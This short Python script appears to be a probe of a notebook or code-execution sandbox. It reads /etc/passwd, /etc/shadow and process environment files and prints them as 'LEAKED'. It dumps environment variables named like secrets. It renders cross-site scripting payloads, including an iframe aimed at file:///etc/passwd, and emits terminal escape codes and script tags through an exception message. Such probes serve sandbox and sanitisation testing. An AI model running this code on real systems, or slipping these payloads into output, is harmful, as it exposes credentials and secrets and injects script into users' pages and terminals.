import os
for path in ("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/proc/1/cmdline"):
    try: print("LEAKED", open(path).read())
    except OSError: pass
print({k: v for k, v in os.environ.items() if "SECRET" in k})
from IPython.display import HTML, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)><iframe src='file:///etc/passwd'></iframe>"))
print("\x1b[2J\x1b[31m<script>alert(2)</script>")
def attend(query, key, value):
    raise RuntimeError("<script>alert(3)</script>\x1b[2J")
